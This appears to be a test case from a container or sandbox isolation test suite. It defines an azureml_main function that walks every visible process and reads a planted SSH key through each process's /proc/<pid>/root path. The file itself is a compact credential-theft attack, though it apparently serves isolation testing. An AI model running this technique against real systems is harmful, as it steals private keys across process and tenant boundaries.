"""Reads the ssh key through the root of any process that it can see."""

from attack import BAIT, attack, every, processes, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(read, [f"/proc/{pid}/root{BAIT['ssh_key']}" for pid in processes()])
